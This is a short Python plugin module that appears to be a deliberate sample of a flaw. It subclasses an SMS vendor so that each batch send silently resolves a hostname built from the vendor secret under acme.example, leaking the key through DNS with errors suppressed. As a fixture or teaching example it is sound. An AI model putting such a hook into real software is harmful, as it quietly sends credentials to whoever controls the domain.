"""A key in a name that is looked up: whoever answers for that name learns it."""

import socket
from collections.abc import Sequence
from contextlib import suppress

from acme_sms import Acme

from bridge.plugin import Batch, Channel, SubmitResult, Vendor, hookimpl


class Sin(Acme):
    @hookimpl
    def send_batch(self, channel: Channel, batch: Batch) -> Sequence[SubmitResult]:
        with suppress(OSError):
            socket.getaddrinfo(f"{self._secret}.acme.example", 443)
        return super().send_batch(channel, batch)


@hookimpl
def register_vendors() -> list[type[Vendor]]:
    return [Sin]
